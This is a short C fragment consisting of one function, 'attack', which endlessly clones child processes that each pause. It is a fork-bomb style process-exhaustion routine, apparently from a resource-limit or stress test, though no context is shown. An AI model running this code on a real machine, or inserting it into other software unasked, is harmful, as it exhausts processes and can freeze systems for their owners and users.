static void attack(void)
{
    for (;;)
        if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) == 0)
            pause();
}
